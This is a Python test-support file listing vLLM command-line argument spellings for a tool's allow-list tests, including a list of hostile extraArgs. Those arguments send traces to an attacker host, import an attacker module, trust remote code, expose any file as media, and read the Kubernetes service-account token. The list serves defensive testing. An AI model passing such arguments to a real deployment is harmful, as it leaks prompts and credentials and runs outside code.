"""vLLM argument lists shared by the unit tests and the integration tests that parse them with vLLM's real parser:
a baseline that spells the KV flags every way vLLM accepts, the allow-list issue's hostile extraArgs, and the
spellings of the flags kvcal owns (and of some it does not)."""

from typing import Any

from tests.support.decide import baseline_manifest

BASELINE_ARGS = [
    "--model=/models/smollm2",
    "--kv_cache_dtype=auto",
    "--calculate_kv_scales",
    " --kv-cache-dtype",
    "auto",
    "--no-calculate-kv-scales",
    "--served_model_name",
    "llm",
    "--kv-cache-dtype-skip-layers",
    "0",
    "5",
    "--kv_cache_dtype_skip_layers=9",
    "--port",
    "8000",
]


def baseline_with_odd_spellings() -> dict[str, Any]:
    baseline = baseline_manifest()
    container = baseline["spec"]["template"]["spec"]["containers"][0]
    container["command"] = ["vllm", "serve", "--calculate-kv-scales"]
    container["args"] = list(BASELINE_ARGS)
    return baseline


# The reproductions (each accepted before the allow-list), with what each would do in production.
HOSTILE = [
    ["--otlp-traces-endpoint=http://collector.attacker.example:4317"],  # request traces sent out
    ["--middleware", "attacker.module"],  # vLLM imports it
    ["--trust-remote-code"],  # runs the model repository's Python
    ["--allowed-local-media-path=/"],  # any file of the container as "media"
    ["--enable-log-requests"],  # prompts into the logs
    ["--chat-template", "/var/run/secrets/kubernetes.io/serviceaccount/token"],  # any file as the template
]


# (extraArgs item, the owned flag vLLM would set): every spelling vLLM's parser maps onto that flag.
OWNED_SPELLINGS = [
    ("--kv-cache-dtype", "--kv-cache-dtype"),
    ("--kv_cache_dtype=auto", "--kv-cache-dtype"),
    (" --kv-cache-dtype", "--kv-cache-dtype"),
    ("--kv-cache-dtype\t", "--kv-cache-dtype"),
    ("--kv-cache-dtype auto", "--kv-cache-dtype"),
    ("--kv-cache-dt", "--kv-cache-dtype"),
    ("--kv_cache_dt=auto", "--kv-cache-dtype"),
    ("--kv-cache-dtype.x=1", "--kv-cache-dtype"),
    ("--model=/etc", "--model"),
    ("--model", "--model"),
    ("--calculate-kv-scales", "--calculate-kv-scales"),
    ("--calculate_kv_scales", "--calculate-kv-scales"),
    ("--no-calculate-kv-scales", "--calculate-kv-scales"),
    ("--calculate-kv", "--calculate-kv-scales"),
    ("--served-model-name=other", "--served-model-name"),
    ("--served_model_name", "--served-model-name"),
    ("--port=9000", "--port"),
    ("--host", "--host"),
    ("--uds=/tmp/s", "--uds"),
    ("--quantization=fp8", "--quantization"),
    ("-q", "--quantization"),
    ("-qfp8", "--quantization"),
    ("-q=fp8", "--quantization"),
    ("--quantization_config={}", "--quantization-config"),
    ("--attention-backend=TRITON_ATTN", "--attention-backend"),
    ("--attention-config.backend=TRITON_ATTN", "--attention-config"),
    ("-ac.backend=TRITON_ATTN", "--attention-config"),
    ("-a", "--attention-config"),
    ("--hf-overrides.quantization_config.kv_cache_scheme=null", "--hf-overrides"),
    ("--hf_config_path=/x", "--hf-config-path"),
    ("--load-format=dummy", "--load-format"),
    ("--download_dir", "--download-dir"),
    ("--tokenizer=/other", "--tokenizer"),
    ("--revision=main", "--revision"),
    ("--tokenizer-revision", "--tokenizer-revision"),
    ("--code-revision", "--code-revision"),
    ("--model-loader-extra-config={}", "--model-loader-extra-config"),
    ("--weight-transfer-config={}", "--weight-transfer-config"),
    ("--config=/etc/vllm.yaml", "--config"),
    ("--config-format=mistral", "--config-format"),
    ("--kv-cache-dtype-skip-layers", "--kv-cache-dtype-skip-layers"),
    ("--kv_cache_dtype_skip_layers=0", "--kv-cache-dtype-skip-layers"),
    ("--kv-cache-dtype-s", "--kv-cache-dtype-skip-layers"),
]
# Spellings that set nothing kvcal owns.
FREE_SPELLINGS = [
    "--kv-cache-memory-bytes=1G",
    "--enforce-eager",
    "--max-num-seqs",
    "--model-impl=vllm",
    "--max-model-len=4096",
    "-tp",
    "-asc",
    "-O3",
    "--compilation-config.mode=0",
]
